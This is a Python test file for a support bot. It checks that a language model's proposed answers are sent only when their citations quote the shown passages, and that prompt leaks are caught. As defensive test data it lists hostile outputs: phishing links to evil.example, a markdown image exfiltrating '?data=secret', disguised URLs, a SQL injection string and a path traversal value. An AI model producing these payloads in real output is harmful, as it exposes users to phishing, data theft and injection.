"""What the model says is a proposal: an Answer proves itself, and no field reaches further than its own meaning."""

import json
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.knowledge.ranking import rank
from bot.model import Answer, Conversation, Escalate, FileTicket, Ignore, Level, Passage, Priority
from bot.triage import Rules, decide
from bot.triagers.openai_checks import action
from bot.triagers.openai_failures import NoAnswer
from bot.triagers.openai_prompt import prompt
from bot.triagers.openai_schema import Thought, read
from tests.bot.openai_parts import ASKED, CATEGORIES, RESET, SHIPPING, Known, decided, proposed, triager
from tests.bot.talk import passage, talk
from tests.bot.talk import says as customer
from tests.model_server import Asked, ModelServer, content, says, thought

EVIL = "https://evil.example/login"
QUOTE = "The link is valid for 2 hours."


def cites(id_: str, quote: str) -> dict[str, Any]:
    return {"citations": [{"passage_id": id_, "quote": quote}]}


# ------------------------------------------------------------------ answers


async def test_an_answer_with_a_verified_citation_is_given_with_its_source() -> None:
    async with ModelServer(
        says(answer="It is valid for two hours.", category="access", **cites("p1", QUOTE))
    ) as server:
        got = await decided(server)
    assert isinstance(got.action, Answer)
    assert got.action.text == "It is valid for two hours.\n\n“Reset your password” https://x.example/help"
    assert [(one.passage, one.quote) for one in got.action.citations] == [(RESET, QUOTE)]
    assert (got.overruled, got.proposal.category, got.proposal.triager) == ((), "access", "openai")


async def test_white_space_in_a_quotation_does_not_count() -> None:
    async with ModelServer(says(**cites("p1", " The link\n is  valid for 2 hours. "))) as server:
        assert isinstance((await decided(server)).action, Answer)


WRONG: dict[str, tuple[dict[str, Any], str]] = {
    "no citation": ({"citations": []}, "uncited"),
    "the citation of nothing": (cites("none", ""), "uncited"),
    "words that no passage holds": (cites("p1", "The link is valid for 9 days."), "misquoted"),
    "words of another passage": (cites("p2", QUOTE), "misquoted"),
    "a passage that was not shown": (cites("p7", QUOTE), "misquoted"),
    "too few words": (cites("p1", "2 hours"), "misquoted"),
    "other letters": (cites("p1", QUOTE.upper()), "misquoted"),
    "a right and a wrong one": (
        {
            "citations": [
                {"passage_id": "p1", "quote": QUOTE},
                {"passage_id": "p1", "quote": "Whatever you like to hear"},
            ]
        },
        "misquoted",
    ),
    "knowledge that does not suffice": ({"kb_sufficient": False}, "insufficient"),
    "no words": ({"answer": " "}, "no answer"),
}


@pytest.mark.parametrize("name", WRONG)
async def test_what_does_not_prove_itself_is_a_ticket(name: str) -> None:
    changes, fault = WRONG[name]
    async with ModelServer(says(**changes)) as server:
        got = await proposed(server)
    assert isinstance(got.action, FileTicket)
    assert fault in got.evidence["faults"]
    assert got.triager == "openai"


async def test_the_people_see_the_draft_and_only_what_holds_of_its_citations() -> None:
    async with ModelServer(says(**WRONG["a right and a wrong one"][0])) as server:
        got = await proposed(server)
    assert isinstance(got.action, FileTicket)
    assert got.action.draft is not None
    assert [one.quote for one in got.action.draft.citations] == [QUOTE]
    assert [one["quote"] for one in got.evidence["cited"]] == [QUOTE, "Whatever you like to hear"]


async def test_a_passage_that_has_nothing_of_the_question_answers_nothing() -> None:
    """The model was led to quote what the search put last."""
    text = "Refunds of any amount are paid at once, without questions."
    last = passage(text, article="refunds", title="Refunds")
    best = [passage(f"Reset the password number {n}.", article=f"reset-{n}", title="Password") for n in range(5)]
    async with ModelServer(says(answer=text, **cites("p6", text))) as server:
        got = await proposed(server, ASKED, *best, last)
    assert isinstance(got.action, FileTicket)
    assert got.evidence["faults"] == ["weak evidence"]


@pytest.mark.parametrize("leak", ["mark", "rule"])
async def test_our_own_rules_do_not_go_out(leak: str) -> None:
    def leaking(asked: Asked) -> str:
        mark = asked.prompt.split()[-2]
        rule = asked.body["messages"][0]["content"].splitlines()[0]
        return json.dumps(thought(asked, answer=f"My instructions: {mark if leak == 'mark' else rule.upper()}"))

    async with ModelServer(content(leaking)) as server:
        got = await proposed(server)
    assert isinstance(got.action, FileTicket)
    assert got.action.draft is None
    assert "leak" in got.evidence["faults"]


# ------------------------------------------------------------------ towards people


@pytest.mark.parametrize("proposes", ["answer", "ticket", "ignore", "escalate"])
async def test_a_risk_calls_for_people_whatever_else_is_said(proposes: str) -> None:
    async with ModelServer(says(action=proposes, risks=["legal", "legal", "manipulation"])) as server:
        got = await proposed(server)
    assert got.action.__class__ is Escalate
    assert got.action.reason == "legal: The customer asks something."


async def test_an_attempt_to_steer_is_noted_and_the_question_answered() -> None:
    async with ModelServer(says(risks=["manipulation"])) as server:
        got = await proposed(server)
    assert isinstance(got.action, Answer)
    assert got.evidence["risks"] == ["manipulation"]


async def test_a_ticket_tells_people_what_it_is_about() -> None:
    ticket = {"title": "Wants\u202e a\nblue lamp", "summary": "Lamps\x00 in blue.", "priority": "low"}
    said = says(action="ticket", answer="", kb_sufficient=False, missing="colours of lamps", ticket=ticket)
    async with ModelServer(said) as server:
        got = await proposed(server)
    assert got.action == FileTicket("colours of lamps: Lamps in blue.")
    assert (got.summary, got.priority) == ("Wants a blue lamp", Priority.LOW)


async def test_what_only_the_model_takes_for_nothing_goes_to_people() -> None:
    async with ModelServer(always=says(action="ignore")) as server:
        assert isinstance((await proposed(server)).action, Ignore)
        assert isinstance((await decided(server)).action, FileTicket)


async def test_code_hears_the_wish_for_a_person_even_if_the_model_does_not() -> None:
    async with ModelServer() as server:
        got = await decided(server, talk("How do I reset my password? I want to talk to a human."))
    assert isinstance(got.action, Escalate)


# ------------------------------------------------------------------ the worst in every field

BAD_TEXTS = [
    f"Go to {EVIL}",
    f"[Reset your password]({EVIL})",
    f"![x]({EVIL}?data=secret)",
    f"[help][1]\n\n[1]: {EVIL}",
    f"<{EVIL}>",
    f'<a href="{EVIL}">https://x.example/forgot</a>',
    f'<img src="{EVIL}">',
    "evil.example/login",
    "https://ｅvil。example/login",
    "https://xn--evl-6ma.example/",
    "https://x.example%2eevil.example/",
    "Write to eve@evil.example",
    "Call +49 30 1234567",
    "We refund 500 €",
    "Open https://x.exa\u200bmple.evil.example",
    "\u202egnp.exe\u202c",
]


@pytest.mark.parametrize("bad", BAD_TEXTS)
async def test_nothing_that_no_passage_holds_is_sent(bad: str) -> None:
    async with ModelServer(says(answer=f"{QUOTE} {bad}", **cites("p1", QUOTE))) as server:
        got = await decided(server)
    assert isinstance(got.action, FileTicket)
    assert got.action.draft is not None
    assert {"unfounded", "unreadable"} & set(got.overruled)


@pytest.mark.parametrize(
    "worst",
    [
        {"language": "../../etc"},
        {"category": "'; DROP TABLE ticket; --"},
        {"category": "internal"},
        {"ticket": {"title": "x" * 3000, "summary": "y" * 3000, "priority": "urgent"}},
        {"missing": "@channel <!everyone> " * 100},
    ],
)
async def test_a_field_means_no_more_than_itself(worst: dict[str, Any]) -> None:
    async with ModelServer(says(**worst)) as server:
        got = await decided(server)
    plain = got.proposal
    assert (got.conversation, got.saw) == (ASKED.id, tuple(message.id for message in ASKED.messages))
    assert (plain.category, plain.language) == ("other", "en")
    assert len(plain.summary) <= 120


@pytest.mark.parametrize(
    "worst",
    [
        {"action": "send"},
        {"action": ""},
        {"action": ["answer"]},
        {"kb_sufficient": "true"},
        {"kb_sufficient": 1},
        {"citations": "p1"},
        {"citations": [{"passage_id": "p1", "quote": QUOTE, "to": "eve@evil.example"}]},
        {"ticket": {"title": "", "summary": "", "priority": "highest"}},
        {"ticket": {"title": "", "summary": "", "priority": "low", "assignee": "eve"}},
        {"risks": ["none"]},
        {"to": ["eve@evil.example"]},
        {"answer": None},
        {"language": 7},
    ],
)
async def test_what_is_not_in_the_schema_is_no_answer(worst: dict[str, Any]) -> None:
    async with ModelServer(always=says(**worst)) as server:
        got = await proposed(server)
    assert (got.triager, got.evidence["model"]) == ("local", "invalid")


async def test_a_category_that_exists_decides_the_level_and_nothing_else() -> None:
    """The model may choose among the desk's categories; a level is the desk's."""

    async def everything(slugs: Any) -> Any:
        return slugs

    rules = Rules(Level.DRAFT, {"access": Level.AUTOMATIC})
    async with ModelServer(says(category="access"), says(category="other")) as server:
        asked = triager(server)
        got = [await decide(ASKED, triager=asked, rules=rules, approved=everything) for _ in range(2)]
    assert [type(one.action) for one in got] == [Answer, FileTicket]


# ------------------------------------------------------------------ any words at all

CONVERSATION: Conversation = talk(customer("How do I reset my password?", subject="Help"))
SHOWN: list[Passage] = [RESET, SHIPPING]
RANKING = rank(["reset", "password"], Known(*SHOWN).hits)
PROMPT = prompt(CONVERSATION, SHOWN, CATEGORIES)

ANYTHING = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)
WORDS = st.text(max_size=60) | st.sampled_from([QUOTE, RESET.text, EVIL, "p1", "p2", "none", "en", "access"])
WELL_FORMED = st.fixed_dictionaries(
    {
        "language": WORDS,
        "category": WORDS,
        "kb_sufficient": st.booleans(),
        "citations": st.lists(st.fixed_dictionaries({"passage_id": WORDS, "quote": WORDS}), max_size=3),
        "answer": WORDS,
        "action": st.sampled_from(["escalate", "ignore", "ticket", "answer"]),
        "ticket": st.fixed_dictionaries(
            {"title": WORDS, "summary": WORDS, "priority": st.sampled_from(["low", "normal", "high", "urgent"])}
        ),
        "missing": WORDS,
        "risks": st.lists(st.sampled_from(["danger", "legal", "manipulation"]), max_size=3),
    }
)


@given(said=WELL_FORMED, field=st.sampled_from(["", *PROMPT.schema["properties"]]), value=ANYTHING)
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_words_end_in_an_action_or_in_no_answer(said: dict[str, Any], field: str, value: Any) -> None:
    thought = read_or_not(json.dumps(said | {field: value} if field else said))
    if isinstance(thought, NoAnswer):
        return
    proposed, faults = action(thought, PROMPT, RANKING)
    if isinstance(proposed, Answer):
        assert not faults
        assert proposed.citations
        assert all(" ".join(c.quote.split()) in " ".join(c.passage.text.split()) for c in proposed.citations)
        assert all(c.passage in SHOWN for c in proposed.citations)
    else:
        assert proposed.reason
        assert proposed.reason == " ".join(proposed.reason.split())


@given(st.text() | ANYTHING.map(json.dumps))
def test_any_text_is_a_thought_or_no_answer(text: str) -> None:
    thought = read_or_not(text)
    assert isinstance(thought, Thought) or thought.problems


def read_or_not(text: str) -> Thought | NoAnswer:
    try:
        return read(text)
    except NoAnswer as failed:
        return failed
